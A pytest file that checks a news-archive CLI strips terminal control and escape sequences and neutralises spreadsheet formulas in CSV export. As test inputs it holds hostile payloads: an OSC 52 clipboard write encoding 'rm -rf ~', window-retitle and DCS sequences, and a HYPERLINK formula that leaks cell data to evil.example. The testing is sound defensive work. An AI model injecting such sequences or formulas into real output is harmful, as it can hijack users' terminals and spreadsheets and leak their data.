"""Crawled text cannot drive the user's terminal or spreadsheet: control characters
and escape sequences are stripped from the text output of search, explain and
stats, and ``export --format csv --bom`` (for Excel) neutralises formulas."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from archive.export import write_csv
from archive.search import ANSI_MARKS
from archive.store import Archive
from archive.terminal import placeholders, safe
from tests.support.cli import pdarchive
from tests.support.oracle import EXPECTED

RETITLE = "\x1b]0;you have been pwned\x07"  # OSC 0: sets the window title
CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4K\x1b\\"  # OSC 52: writes the clipboard
CLEAR = "\x1b[2J\x1b[H"  # CSI: clear the screen, cursor home


@pytest.mark.parametrize(("text", "shown"), [
    (f"{RETITLE}党建{CLEAR}", "党建"),
    (f"a{CLIPBOARD}b", "ab"),
    ("\x1b[1;31mred\x1b[0m text", "red text"),
    ("\x1bP1$qm\x1b\\dcs", "dcs"),  # DCS query: some terminals answer it as typed input
    ("lone \x1b", "lone "),
    ("\x1b7saved\x1b8", "saved"),  # two-character sequences
    ("nul\x00 bell\x07 back\x08 cr\r del\x7f", "nul bell back cr del"),
    ("c1 \x9b31m \x85 \x9d", "c1 31m  "),
    ("tab\tnew\nline 人民网－江苏 ＝full", "tab\tnew\nline 人民网－江苏 ＝full"),
])
def test_safe_strips_controls_and_escapes(text: str, shown: str) -> None:
    assert safe(text) == shown


def test_placeholders_become_the_marks_after_stripping() -> None:
    marked = placeholders()
    text = f"{marked[0]}党建{marked[1]} \x1b[1;31mforged\x1b[0m"
    assert safe(text, marked, ANSI_MARKS) == f"{ANSI_MARKS[0]}党建{ANSI_MARKS[1]} forged"
    assert placeholders() != marked  # random: no crawled text can hold them


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("hostile") / "archive.db"
    archive = Archive(db)
    article = dict(EXPECTED[0])
    article["title"] = f"{RETITLE}{article['title']}{CLEAR}"
    article["body"] = [f"\x1b[8m{CLIPBOARD}{article['body'][0]}\x07", *article["body"][1:]]
    article["source"] = f"{article['source']}\x9b2J\r"
    archive.save_article(article, [], run_id=None)
    formula = dict(EXPECTED[1], title='=HYPERLINK("http://evil.example/?"&A1,"看")',
                   source="@SUM(1+1)", body=["-2+3", "+cmd", "\tx", "plain"])
    archive.save_article(formula, [], run_id=None)
    archive.close()
    return db


def _printable(text: str) -> bool:
    return all(char in "\t\n" or (char >= " " and not "\x7f" <= char <= "\x9f")
               for char in text)


def test_search_and_explain_print_no_control_character(hostile_db: Path) -> None:
    search = pdarchive("search", "党建引领", "--db", hostile_db, check=True).stdout
    assert "«党建引领»" in search and "省住房城乡建设厅" in search
    explain = pdarchive("explain", EXPECTED[0]["article_id"], "--db", hostile_db,
                        check=True).stdout
    assert "省住房城乡建设厅" in explain and "topic party-building" in explain
    stats = pdarchive("stats", "--db", hostile_db, check=True).stdout
    for output in (search, explain, stats):
        assert _printable(output), repr(output)


def test_json_keeps_the_text_exactly(hostile_db: Path) -> None:
    hits = json.loads(pdarchive("search", "党建引领", "--db", hostile_db, "--format", "json",
                                check=True).stdout)
    assert hits[0]["title"].startswith(RETITLE)


def test_search_on_a_terminal_keeps_only_its_own_highlighting(hostile_db: Path) -> None:
    """Run with stdout on a pseudo-terminal, as a user in a terminal does."""
    master, slave = pty.openpty()
    env = {key: value for key, value in os.environ.items() if key != "NO_COLOR"}
    process = subprocess.Popen([sys.executable, "-m", "archive.cli", "search", "党建引领",
                                "--db", str(hostile_db)], stdout=slave,
                               stderr=subprocess.PIPE, env=env)
    os.close(slave)
    chunks = []
    while True:
        try:
            chunk = os.read(master, 65536)
        except OSError:  # EIO: the other side is closed
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(master)
    assert process.wait(timeout=60) == 0, process.stderr.read() if process.stderr else ""
    output = b"".join(chunks).decode("utf-8").replace("\r\n", "\n")
    assert f"{ANSI_MARKS[0]}党建引领{ANSI_MARKS[1]}" in output
    without_marks = output.replace(ANSI_MARKS[0], "").replace(ANSI_MARKS[1], "")
    assert _printable(without_marks), repr(without_marks)


def _csv(records: list[dict[str, Any]], bom: bool) -> list[dict[str, str]]:
    out = io.StringIO(newline="")
    write_csv(iter(records), out, bom=bom)
    return list(csv.DictReader(io.StringIO(out.getvalue().lstrip("\ufeff"), newline="")))


def test_csv_for_excel_neutralises_formulas_and_plain_csv_is_exact() -> None:
    record = {"article_id": "1", "title": "=1+1", "source": "@SUM(A1)", "pretitle": "+1",
              "subtitle": "-1", "url": "\tx", "source_url": "\rx",
              "body": ["=not a cell start", "ok"], "editors": ["-张"], "page_count": 1}
    excel, = _csv([record], bom=True)
    assert (excel["title"], excel["source"], excel["pretitle"], excel["subtitle"],
            excel["url"], excel["source_url"]) == (
        "'=1+1", "'@SUM(A1)", "'+1", "'-1", "'\tx", "'\rx")
    assert excel["body"] == "'=not a cell start\nok" and excel["editors"] == "'-张"
    assert excel["page_count"] == "1" and excel["article_id"] == "1"
    plain, = _csv([record], bom=False)
    assert (plain["title"], plain["source"], plain["body"]) == (
        "=1+1", "@SUM(A1)", "=not a cell start\nok")


def test_export_csv_bom_writes_no_formula(hostile_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "党建.csv"
    pdarchive("export", "--db", hostile_db, "--format", "csv", "--bom", "-o", out, check=True)
    rows = list(csv.DictReader(io.StringIO(out.read_text("utf-8-sig"), newline="")))
    formula = next(row for row in rows if row["article_id"] == EXPECTED[1]["article_id"])
    assert formula["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"看")'
    assert formula["source"] == "'@SUM(1+1)" and formula["body"].startswith("'-2+3\n")
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
